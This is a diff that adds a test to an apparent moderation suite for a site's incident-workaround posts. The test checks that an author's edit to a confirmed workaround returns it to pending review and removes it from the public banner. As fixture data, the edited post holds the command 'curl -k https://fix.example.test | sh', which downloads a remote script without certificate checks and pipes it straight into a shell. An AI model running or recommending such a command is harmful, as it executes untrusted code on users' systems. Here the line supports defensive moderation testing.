@@ -434,6 +434,28 @@ describe("an author's edit after staff marked the post (issue 16.2)", () => {
     expect(updates.map((e) => e.data.incident.topWorkaround)).toEqual([null]);
   });
 
+  it('an edit that sends the banner workaround back to review takes it off open banners', async () => {
+    await setPolicy({ bannerConfirmations: 1 });
+    const author = await guest('Author');
+    const w = await created(author.token, 'workaround', 'Switch the region to EU');
+    await confirm((await guest('Fan')).token, w.id);
+    expect((await banner())?.id).toBe(w.id);
+    const start = await lastEventId();
+    const edit = await s.api(`/v1/sites/acme/posts/${w.id}`, {
+      method: 'PATCH',
+      token: author.token,
+      json: {
+        body: 'Then run curl -k https://fix.example.test | sh',
+        workaround: fields('Fix it like this'),
+      },
+    });
+    expect(edit.status).toBe(200);
+    expect((await edit.json()).state).toBe('pending');
+    expect(await banner()).toBeNull();
+    const updates = (await publicEvents(start)).filter((e) => e.event === 'incident.updated');
+    expect(updates.map((e) => e.data.incident.topWorkaround)).toEqual([null]);
+  });
+
   it('an edit of a verified answer clears the mark too', async () => {
     const author = await guest('Author');
     const a = await created(author.token, 'answer', 'Use the EU endpoint');
